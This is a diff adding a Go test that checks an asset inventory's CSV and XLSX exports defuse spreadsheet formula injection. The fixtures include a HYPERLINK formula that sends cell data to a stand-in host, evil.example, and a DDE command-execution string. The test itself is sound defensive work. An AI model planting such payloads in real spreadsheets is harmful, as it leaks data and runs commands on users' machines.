@@ -4,8 +4,10 @@ import (
 	"archive/zip"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
+	"io"
 	"strings"
 	"testing"
 
@@ -416,6 +418,73 @@ func TestExportAndTemplate(t *testing.T) {
 			if !p.OK() || len(p.Rows) != 0 {
 				t.Errorf("template %s: %+v", f, p)
 			}
+		}
+	})
+}
+
+// TestExportFormulaCells: cells that a spreadsheet would run as formulas
+// are written into the CSV export with a leading apostrophe (plain signed
+// numbers stay as they are), the CSV export imports back unchanged, and
+// the xlsx export writes every cell as an inline string, never a formula.
+func TestExportFormulaCells(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		ctx := context.Background()
+		a := newOrg(t, d, "A")
+		names := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1", "-1"}
+		for _, n := range names {
+			if _, err := CreateAsset(ctx, d, a, "", Asset{Name: n, Kind: KindPC, Notes: "=1+1"}, t0); err != nil {
+				t.Fatalf("%q: %v", n, err)
+			}
+		}
+		var c bytes.Buffer
+		if err := Export(ctx, d, a, FormatCSV, &c, ""); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.Bytes(), []byte("\uFEFF")))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := map[string]bool{}
+		for _, r := range rows[1:] {
+			got[r[0]] = true
+			for _, cell := range r {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", []rune(cell)[0]) && cell != "-1" {
+					t.Errorf("cell %q starts a formula", cell)
+				}
+			}
+		}
+		for _, n := range names {
+			want := "'" + n
+			if n == "-1" {
+				want = n
+			}
+			if !got[want] {
+				t.Errorf("export lacks %q: %v", want, got)
+			}
+		}
+		p := must[*Preview](t)(PreviewImport(ctx, d, a, "e.csv", c.Bytes()))
+		if p.Counts[SheetAssets][RowUnchanged] != len(names) || !p.OK() {
+			t.Errorf("csv export re-import %v %+v", p.Counts, p.Errors)
+		}
+		var x bytes.Buffer
+		if err := Export(ctx, d, a, FormatXLSX, &x, "2026-04-01"); err != nil {
+			t.Fatal(err)
+		}
+		zr, err := zip.NewReader(bytes.NewReader(x.Bytes()), int64(x.Len()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, f := range zr.File {
+			rc, _ := f.Open()
+			body, _ := io.ReadAll(rc)
+			rc.Close()
+			if bytes.Contains(body, []byte("<f>")) || bytes.Contains(body, []byte("<f ")) {
+				t.Errorf("%s holds a formula", f.Name)
+			}
+		}
+		sheets, err := ReadXLSX(x.Bytes(), XLSXLimits{})
+		if err != nil || sheets[0].Rows[1][0].Num {
+			t.Fatalf("xlsx %v", err)
 		}
 	})
 }
